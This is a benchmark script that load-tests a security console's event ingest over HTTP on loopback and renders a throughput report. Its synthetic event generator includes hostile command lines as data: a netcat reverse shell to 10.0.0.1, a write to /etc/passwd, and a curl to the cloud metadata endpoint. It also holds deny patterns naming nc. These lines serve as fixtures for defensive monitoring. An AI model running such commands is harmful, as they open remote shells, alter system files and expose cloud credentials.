// Console ingest benchmark: a real `vigil console` (dist/cli/main.js) on 127.0.0.1, a fresh
// database per run, N simulated enforcers registered over HTTP (docs/console-protocol.md), each
// posting batches of 1000 schema-valid events one after another (as a real enforcer does: one
// batch in flight), all enforcers at once. Measures events/s end to end over HTTP and the batch
// latency, for four phases:
//   fresh       new events (every one stored)
//   duplicate   the same batches sent again (every event a duplicate: a retry after a timeout)
//   gaps        batches that each skip 500 numbers (every batch records a gap)
//   fill        late batches of 500 that fill those gaps exactly (every batch removes a gap)
// and checks the console's own /metrics against what was sent, so a wrong answer is an error.
//
//   node bench/console-ingest.mjs --db sqlite|postgres://ADMIN-URL [--runs 5] [--enforcers 8]
//        [--batches 25] [--json OUT] [--cpu-prof DIR]
//   node bench/console-ingest.mjs --render OUT.md RESULT.json... (the report, from the --json files)
//
// Every address is 127.0.0.1; the console is stopped and its temp dir (and, for PostgreSQL, its
// database) removed after each run, also on failure. Run through bench/console-ingest.sh.

import { spawn } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const ROOT = dirname(dirname(fileURLToPath(import.meta.url)));
// VIGIL_BENCH_CLI: another build of the CLI (an experiment), else this tree's dist/.
const CLI = process.env.VIGIL_BENCH_CLI ?? join(ROOT, "dist/cli/main.js");
const BATCH = 1000;
const GAP = 500;

function parseArgs(argv) {
  const o = { db: "sqlite", runs: 5, enforcers: 8, batches: 25, json: null, cpuProf: null };
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    const v = () => {
      const x = argv[++i];
      if (x === undefined) throw new Error(`${a} needs a value`);
      return x;
    };
    if (a === "--db") o.db = v();
    else if (a === "--runs") o.runs = Number(v());
    else if (a === "--enforcers") o.enforcers = Number(v());
    else if (a === "--batches") o.batches = Number(v());
    else if (a === "--json") o.json = v();
    else if (a === "--cpu-prof") o.cpuProf = v();
    else throw new Error(`unknown argument ${a}`);
  }
  for (const k of ["runs", "enforcers", "batches"]) if (!Number.isInteger(o[k]) || o[k] < 1) throw new Error(`--${k}: a positive integer`);
  return o;
}

// --- events: a realistic mix, valid per src/events/schema.ts -----------------------------------

const T0 = Date.parse("2026-12-04T15:00:00.000Z");
const iso = (ms) => new Date(ms).toISOString();

function makeEvent(i, base) {
  const time = iso(base + i * 7);
  const pid = 100 + (i % 400);
  const common = { vigil: 1, time, pid, ppid: pid > 100 ? pid - 1 : 1, uid: 33, argvTruncated: false, cwd: "/srv/app" };
  const r = i % 20;
  if (r < 13) {
    const exe = ["/usr/bin/python3.11", "/bin/sh", "/usr/bin/curl", "/usr/local/bin/node", "/usr/bin/git"][i % 5];
    return { ...common, kind: "exec", verdict: "allowed", rule: "exec.allow[0]", exe, argv: [exe.split("/").pop(), "-c", `job --id ${i} --queue default --retries 3`], pattern: "/usr/*", mechanism: "ptrace", script: null };
  }
  if (r < 15) {
    return { ...common, kind: "exec", verdict: "blocked", rule: "exec.deny[0]", exe: "/usr/bin/nc.openbsd", argv: ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], pattern: "/usr/bin/nc*", mechanism: "ptrace", script: null };
  }
  if (r < 17) {
    return { ...common, kind: "file", verdict: "blocked", rule: "files.readOnly[0]", exe: "/bin/sh", argv: ["sh", "-c", "echo x >> /etc/passwd"], path: "/etc/passwd", operation: "open-write", pattern: "/etc/**" };
  }
  if (r < 19) {
    return { ...common, kind: "connect", verdict: "alert", rule: "network.connect.deny[1]", exe: "/usr/bin/curl", argv: ["curl", "-s", "http://169.254.169.254/latest/meta-data/"], address: "169.254.169.254", port: 80, family: "ipv4", protocol: "tcp", syscall: "connect", pattern: "169.254.169.254/32" };
  }
  return { ...common, kind: "listen", verdict: "blocked", rule: "network.listen.allow", exe: "/usr/bin/python3.11", argv: ["python3", "-m", "http.server", "9999"], address: "0.0.0.0", port: 9999, protocol: "tcp" };
}

/** The JSON text of `count` events; the seq is spliced in per request. */
function eventsJson(count, base) {
  return JSON.stringify(Array.from({ length: count }, (_, i) => makeEvent(i, base)));
}

async function validateSample() {
  const { eventSchema } = await import(join(ROOT, "dist/events/schema.js"));
  for (const e of JSON.parse(eventsJson(40, T0))) {
    const r = eventSchema.safeParse(e);
    if (!r.success) throw new Error(`bench bug: a generated event does not match the schema: ${JSON.stringify(r.error.issues)}`);
  }
}

// --- HTTP on loopback, keep-alive, bounded ------------------------------------------------------

function request(agent, url, method, path, headers, body) {
  return new Promise((resolve, reject) => {
    const u = new URL(path, url);
    const req = http.request(
      { agent, host: u.hostname, port: u.port, path: u.pathname, method, headers: { ...headers, ...(body === undefined ? {} : { "content-type": "application/json", "content-length": Buffer.byteLength(body) }) }, timeout: 60_000 },
      (res) => {
        const chunks = [];
        res.on("data", (c) => chunks.push(c));
        res.on("end", () => resolve({ status: res.statusCode, headers: res.headers, body: Buffer.concat(chunks).toString("utf8") }));
        res.on("error", reject);
      },
    );
    req.on("timeout", () => req.destroy(new Error(`${method} ${path}: no answer within 60 s`)));
    req.on("error", reject);
    req.end(body);
  });
}

async function expectOk(promise, what, status = 200) {
  const res = await promise;
  if (res.status !== status) throw new Error(`${what}: HTTP ${res.status}: ${res.body.slice(0, 500)}`);
  return res;
}

// --- one console --------------------------------------------------------------------------------

async function waitFor(check, what, ms = 20_000) {
  const until = Date.now() + ms;
  for (;;) {
    const v = check();
    if (v) return v;
    if (Date.now() > until) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

function cpuSecondsOf(pid) {
  try {
    const fields = readFileSync(`/proc/${pid}/stat`, "utf8").split(") ")[1].split(" ");
    return (Number(fields[11]) + Number(fields[12])) / 100; // utime + stime, in clock ticks of 1/100 s
  } catch {
    return NaN;
  }
}

async function startConsole(dbArg, dir, cpuProf) {
  const log = join(dir, "console.log");
  const nodeArgs = cpuProf === null ? [] : ["--cpu-prof", "--cpu-prof-dir", cpuProf];
  const { openSync, closeSync } = await import("node:fs");
  const fd = openSync(log, "w");
  const child = spawn(process.execPath, [...nodeArgs, CLI, "console", "--db", dbArg, "--listen", "127.0.0.1:0"], { cwd: dir, stdio: ["ignore", "ignore", fd] });
  closeSync(fd);
  let exited = null;
  child.on("exit", (code, signal) => (exited = { code, signal }));
  const stop = async () => {
    if (exited === null) {
      child.kill("SIGTERM");
      await waitFor(() => exited !== null, "the console to stop", 30_000).catch(() => child.kill("SIGKILL"));
    }
  };
  try {
    const { url, code } = await waitFor(() => {
      if (exited !== null) throw new Error(`the console exited (${JSON.stringify(exited)}): ${readFileSync(log, "utf8").slice(-2000)}`);
      const text = readFileSync(log, "utf8");
      const url = /listening on (http:\/\/127\.0\.0\.1:\d+)/.exec(text)?.[1];
      const code = /setup code (\S+)/.exec(text)?.[1];
      return url && code ? { url, code } : null;
    }, "the console to listen");
    return { child, url, setupCode: code, stop, log };
  } catch (error) {
    await stop();
    throw error;
  }
}

async function prepare(url, setupCode, enforcers) {
  const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
  const setup = await expectOk(request(agent, url, "POST", "/api/admin/setup", {}, JSON.stringify({ username: "bench", password: "bench-password-0123456789", setupCode })), "first-run setup", 201);
  const cookie = String(setup.headers["set-cookie"]).split(";")[0];
  const admin = { cookie, "x-csrf-token": JSON.parse(setup.body).csrfToken };
  const tok = await expectOk(request(agent, url, "POST", "/api/admin/tokens", admin, JSON.stringify({ name: "bench", group: "bench-group" })), "create a token", 201);
  const token = JSON.parse(tok.body).token;
  const keys = [];
  for (let n = 0; n < enforcers; n++) {
    const body = { protocol: 1, instance: `bench-instance-${String(n).padStart(4, "0")}`, taskArn: `arn:aws:ecs:eu-west-1:123456789012:task/bench/${n.toString(16).padStart(32, "0")}`, container: "web", image: "web:1.4.2", version: "0.1.0", arch: "amd64", mode: "enforce", policyDigest: null, hostname: `ip-10-0-1-${n}` };
    const res = await expectOk(request(agent, url, "POST", "/api/v1/enforcer/register", { authorization: `Bearer ${token}` }, JSON.stringify(body)), "register");
    keys.push(JSON.parse(res.body).enforcerKey);
  }
  agent.destroy();
  return { admin, keys };
}

const percentile = (sorted, p) => sorted[Math.min(sorted.length - 1, Math.max(0, Math.ceil((p / 100) * sorted.length) - 1))];

/**
 * Every enforcer sends its batches one after another, all enforcers at once. `plan(b)` gives the
 * batch's first seq and its events JSON. Returns events/s and latency figures.
 */
async function phase(url, keys, batches, plan, expect) {
  const agents = keys.map(() => new http.Agent({ keepAlive: true, maxSockets: 1 }));
  const latencies = [];
  let events = 0;
  const totals = { accepted: 0, duplicates: 0 };
  const started = process.hrtime.bigint();
  await Promise.all(
    keys.map(async (key, k) => {
      for (let b = 0; b < batches; b++) {
        const { seq, json, count } = plan(b);
        const t = process.hrtime.bigint();
        const res = await expectOk(request(agents[k], url, "POST", "/api/v1/enforcer/events", { authorization: `Bearer ${key}` }, `{"seq":${seq},"events":${json}}`), "post a batch");
        latencies.push(Number(process.hrtime.bigint() - t) / 1e6);
        const r = JSON.parse(res.body);
        totals.accepted += r.accepted;
        totals.duplicates += r.duplicates;
        events += count;
      }
    }),
  );
  const seconds = Number(process.hrtime.bigint() - started) / 1e9;
  for (const a of agents) a.destroy();
  if (totals.accepted !== expect.accepted || totals.duplicates !== expect.duplicates) {
    throw new Error(`the console's answers do not add up: ${JSON.stringify(totals)}, expected ${JSON.stringify(expect)}`);
  }
  latencies.sort((a, b) => a - b);
  return { events, seconds, eventsPerSecond: events / seconds, p50ms: percentile(latencies, 50), p99ms: percentile(latencies, 99), maxms: latencies.at(-1) };
}

async function metrics(url) {
  const res = await expectOk(request(undefined, url, "GET", "/metrics", {}), "GET /metrics");
  const m = {};
  for (const line of res.body.split("\n")) {
    const x = /^(vigil_console_\w+)(?:\{[^}]*\})? (\d+(?:\.\d+)?)$/.exec(line);
    if (x) m[x[1]] = Number(x[2]);
  }
  return m;
}

async function oneRun(o, runIndex, pgAdmin) {
  const load1AtStart = (await import("node:os")).loadavg()[0];
  const dir = mkdtempSync(join(tmpdir(), "vigil-bench-console-"));
  let dbArg = `sqlite:${join(dir, "console.db")}`;
  let dropDb = async () => undefined;
  let console_ = null;
  try {
    if (pgAdmin !== null) {
      const name = `vigil_bench_${process.pid}_${runIndex}`;
      const { default: pg } = await import(join(ROOT, "node_modules/pg/lib/index.js"));
      const admin = new pg.Client({ connectionString: pgAdmin });
      await admin.connect();
      await admin.query(`DROP DATABASE IF EXISTS ${name}`);
      await admin.query(`CREATE DATABASE ${name}`);
      await admin.end();
      const u = new URL(pgAdmin);
      u.pathname = `/${name}`;
      dbArg = u.toString();
      dropDb = async () => {
        const c = new pg.Client({ connectionString: pgAdmin });
        await c.connect();
        await c.query(`DROP DATABASE IF EXISTS ${name} WITH (FORCE)`);
        await c.end();
      };
    }
    console_ = await startConsole(dbArg, dir, o.cpuProf);
    const { url } = console_;
    const { keys } = await prepare(url, console_.setupCode, o.enforcers);
    // Batch b of every enforcer covers the same 7 s of time (enforcers run side by side); time
    // moves on from batch to batch, as in a real fleet. Serialized before the clock starts.
    const batchMs = BATCH * 7;
    const full = Array.from({ length: o.batches }, (_, b) => eventsJson(BATCH, T0 + b * batchMs));
    const later = Array.from({ length: o.batches }, (_, b) => eventsJson(BATCH, T0 + (o.batches + b) * batchMs));
    const half = Array.from({ length: o.batches }, (_, b) => eventsJson(GAP, T0 + (o.batches + b) * batchMs - GAP * 7));
    const n = o.enforcers * o.batches * BATCH;
    const cpu0 = cpuSecondsOf(console_.child.pid);
    const fresh = await phase(url, keys, o.batches, (b) => ({ seq: 1 + b * BATCH, json: full[b], count: BATCH }), { accepted: n, duplicates: 0 });
    const cpu1 = cpuSecondsOf(console_.child.pid);
    const duplicate = await phase(url, keys, o.batches, (b) => ({ seq: 1 + b * BATCH, json: full[b], count: BATCH }), { accepted: 0, duplicates: n });
    // After the fresh phase each enforcer's next seq is batches*1000+1; every gap batch skips GAP numbers.
    const after = o.batches * BATCH;
    const gapSeq = (b) => after + 1 + GAP + b * (BATCH + GAP);
    const gaps = await phase(url, keys, o.batches, (b) => ({ seq: gapSeq(b), json: later[b], count: BATCH }), { accepted: n, duplicates: 0 });
    const fill = await phase(url, keys, o.batches, (b) => ({ seq: gapSeq(b) - GAP, json: half[b], count: GAP }), { accepted: o.enforcers * o.batches * GAP, duplicates: 0 });
    const m = await metrics(url);
    const stored = 2 * n + o.enforcers * o.batches * GAP;
    if (m.vigil_console_events_stored !== undefined && m.vigil_console_events_stored !== stored) throw new Error(`/metrics says ${m.vigil_console_events_stored} events stored; expected ${stored}`);
    if (m.vigil_console_event_gaps !== undefined && m.vigil_console_event_gaps !== 0) throw new Error(`/metrics says ${m.vigil_console_event_gaps} gaps open after the fill; expected 0`);
    return { load1AtStart, fresh: { ...fresh, consoleCpuSeconds: cpu1 - cpu0 }, duplicate, gaps, fill, metrics: m };
  } finally {
    if (console_ !== null) await console_.stop();
    await dropDb().catch((e) => process.stderr.write(`bench: could not drop the run's database: ${e.message}\n`));
    rmSync(dir, { recursive: true, force: true });
  }
}

const median = (xs) => {
  const s = [...xs].sort((a, b) => a - b);
  const m = Math.floor(s.length / 2);
  return s.length % 2 ? s[m] : (s[m - 1] + s[m]) / 2;
};

async function main() {
  if (process.argv[2] === "--render") return render(process.argv[3], process.argv.slice(4));
  const o = parseArgs(process.argv.slice(2));
  await validateSample();
  const pgAdmin = o.db === "sqlite" ? null : o.db;
  if (pgAdmin !== null && !/^postgres(ql)?:\/\/[^/]*(127\.0\.0\.1|localhost)[:/]/.test(pgAdmin)) throw new Error("--db: sqlite, or a postgres:// URL on 127.0.0.1");
  const runs = [];
  for (let r = 0; r < o.runs; r++) {
    const run = await oneRun(o, r, pgAdmin);
    runs.push(run);
    process.stderr.write(
      `bench: ${pgAdmin === null ? "sqlite" : "postgres"} run ${r + 1}/${o.runs}: ` +
        ["fresh", "duplicate", "gaps", "fill"].map((p) => `${p} ${Math.round(run[p].eventsPerSecond)} ev/s (p99 ${run[p].p99ms.toFixed(1)} ms)`).join(", ") +
        "\n",
    );
  }
  const summary = {};
  for (const p of ["fresh", "duplicate", "gaps", "fill"]) {
    const eps = runs.map((r) => r[p].eventsPerSecond);
    summary[p] = { medianEventsPerSecond: median(eps), min: Math.min(...eps), max: Math.max(...eps), medianP50ms: median(runs.map((r) => r[p].p50ms)), medianP99ms: median(runs.map((r) => r[p].p99ms)) };
  }
  summary.fresh.medianConsoleCpuUsPerEvent = median(runs.map((r) => (r.fresh.consoleCpuSeconds * 1e6) / r.fresh.events));
  const out = { db: pgAdmin === null ? "sqlite" : "postgres", finishedAt: new Date().toISOString(), loadAverage: (await import("node:os")).loadavg(), enforcers: o.enforcers, batches: o.batches, batchEvents: BATCH, runs, summary };
  if (o.json !== null) writeFileSync(o.json, `${JSON.stringify(out, null, 2)}\n`);
  if (o.json === null) process.stdout.write(`${JSON.stringify(summary)}\n`);
}

// --- the report -----------------------------------------------------------------------------------

const PHASES = [
  ["fresh", "new events (all stored)"],
  ["duplicate", "the same batches resent (all duplicates)"],
  ["gaps", "each batch skips 500 numbers (records a gap)"],
  ["fill", "late 500-event batches filling those gaps"],
];

// Where the time goes: from `node bench/console-ingest.mjs --db sqlite --runs 1 --cpu-prof DIR` (the
// console's own profile) and a better-sqlite3 loop over the same table; kept here so the report
// says it every time it is regenerated. Revisit when the ingest path changes.
const NOTES = [
  "## Where the time goes (SQLite)",
  "",
  "A CPU profile of the console during a run (`node bench/console-ingest.mjs --db sqlite --runs 1 --cpu-prof DIR`; V8 samples wall " +
    "time on the main thread, so waits inside SQLite count) puts ~58% in SQLite: ~31% in `COMMIT` (writing the WAL; with the default " +
    "`wal_autocheckpoint` of 1000 pages a checkpoint, with its fsyncs, runs inside every few commits) and ~27% in the row inserts " +
    "(the primary key plus three secondary indexes per event). The rest: building the rows (`JSON.stringify` of each event, ~7%), " +
    "zod validation of each event (~5%), Fastify's JSON body parse (~4%), enforcer-key lookup and last-seen update (~4%), HTTP and GC.",
  "",
  "A bare better-sqlite3 loop inserting the same rows into the same table in 1000-row transactions reaches ~55,000–120,000 rows/s " +
    "on this machine depending on the load from other work, so SQLite itself is the ceiling: the HTTP path costs about half of it. " +
    "Multi-row INSERT statements gained ≤ 10% in that loop (within the noise), so the one-statement-per-row path stays. Two PRAGMAs " +
    "(in `src/console/db/sqlite.ts`, not changed here) helped in an A/B run on a copy of dist: `cache_size = -65536` (64 MiB instead of " +
    "2 MiB: the secondary indexes stop re-reading pages) and `wal_autocheckpoint = 16384` (fewer, larger checkpoints): fresh 29,552 → " +
    "60,814 ev/s in one interleaved round and 39,863 → 43,578 in the next; the machine was too loaded for a firmer figure.",
  "",
  "PostgreSQL (multi-row INSERTs of 500 rows a statement) is slower per event here because the server shares the two cores " +
    "with the console and the load generator; the figures are for a private server with fsync off, i.e. an upper bound for this box.",
];

async function render(outFile, files) {
  const os = await import("node:os");
  const { execFileSync } = await import("node:child_process");
  const results = files.map((f) => JSON.parse(readFileSync(f, "utf8")));
  const fmt = (n) => Math.round(n).toLocaleString("en-US");
  const commit = (() => {
    try {
      return execFileSync("git", ["-C", ROOT, "rev-parse", "--short", "HEAD"], { encoding: "utf8" }).trim();
    } catch {
      return "unknown";
    }
  })();
  const first = results[0];
  const lines = [
    "# Vigil console: event ingest over HTTP",
    "",
    `Generated by \`bash bench/console-ingest.sh\` — do not edit by hand. ${first.finishedAt}, commit ${commit}.`,
    "",
    `Machine: ${os.cpus().length} × ${os.cpus()[0]?.model ?? "unknown CPU"}, ${Math.round(os.totalmem() / 2 ** 30)} GiB, Node ${process.version}, ` +
      "disk-backed /tmp (virtio). The load generator runs on the same two cores as the console (and, for PostgreSQL, the server); " +
      "other work on the machine is not stopped, so the load average is given with each table.",
    "",
    `Load: a real \`vigil console\` (\`dist/cli/main.js\`, its JSON request log to a file) on 127.0.0.1, a fresh database per run; ` +
      `${first.enforcers} enforcers registered over HTTP, each posting ${first.batches} batches of ${first.batchEvents} schema-valid events ` +
      "(exec allowed/blocked, file, connect, listen; ~330 bytes each) one batch at a time, as an enforcer does, all enforcers at once on " +
      "keep-alive connections. events/s = events sent ÷ wall time from the first request to the last answer. Each run is checked against " +
      "the console's answers (accepted/duplicates) and `/metrics` (events stored, no gap left open).",
    "",
  ];
  for (const r of results) {
    lines.push(`## ${r.db === "sqlite" ? "SQLite (the default: WAL, synchronous=NORMAL)" : "PostgreSQL (private test server: fsync=off, synchronous_commit=off)"}`, "");
    lines.push(`${r.runs.length} runs; load average at the end ${r.loadAverage.map((x) => x.toFixed(2)).join(" ")}.`, "");
    lines.push("| phase | median events/s | range (runs) | median batch p50 | median batch p99 | target |", "|---|---:|---:|---:|---:|---|");
    for (const [p, what] of PHASES) {
      const s = r.summary[p];
      const target = p === "fresh" && r.db === "sqlite" ? (s.medianEventsPerSecond >= 50000 ? "≥ 50,000 ✔" : "≥ 50,000 ✘") : "";
      lines.push(`| ${p}: ${what} | ${fmt(s.medianEventsPerSecond)} | ${fmt(s.min)} – ${fmt(s.max)} | ${s.medianP50ms.toFixed(0)} ms | ${s.medianP99ms.toFixed(0)} ms | ${target} |`);
    }
    lines.push("", `Console CPU per stored event (fresh phase, median): ${r.summary.fresh.medianConsoleCpuUsPerEvent.toFixed(1)} µs.`, "");
    const perRun = r.runs.map((run) => `${fmt(run.fresh.eventsPerSecond)}${run.load1AtStart === undefined ? "" : ` (load ${run.load1AtStart.toFixed(1)})`}`);
    lines.push(`Fresh phase run by run (1-minute load average of the machine when the run started): ${perRun.join(", ")}.`, "");
  }
  lines.push(...NOTES, "");
  lines.push("## Command", "", "```sh", "npm run build && bash bench/console-ingest.sh            # defaults: --runs 5 --enforcers 8 --batches 25", "```", "");
  writeFileSync(outFile, `${lines.join("\n")}`);
}

main().catch((error) => {
  process.stderr.write(`bench: ${error instanceof Error ? error.message : String(error)}\n`);
  process.exitCode = 1;
});
